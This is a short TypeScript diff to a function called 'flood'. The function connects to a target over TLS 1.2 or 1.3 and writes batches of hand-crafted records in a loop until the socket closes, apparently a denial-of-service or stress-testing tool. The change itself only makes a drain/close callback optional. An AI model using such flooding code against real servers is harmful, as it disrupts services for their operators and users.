@@ -19,8 +19,8 @@ function flood(protocol: 'TLSv1.2' | 'TLSv1.3', makeRecord: (records: HandMadeRe
       const records = await HandMadeRecords.connect(target, protocol).catch(() => undefined);
       if (records === undefined) return;
       const { socket } = records;
-      let goOn = () => {};
-      socket.on('drain', () => goOn()).on('close', () => goOn());
+      let goOn: (() => void) | undefined;
+      socket.on('drain', () => goOn?.()).on('close', () => goOn?.());
       while (!socket.destroyed) {
         const bytes = Buffer.concat(Array.from({ length: 64 }, () => makeRecord(records)));
         const canTakeMore = socket.write(bytes);
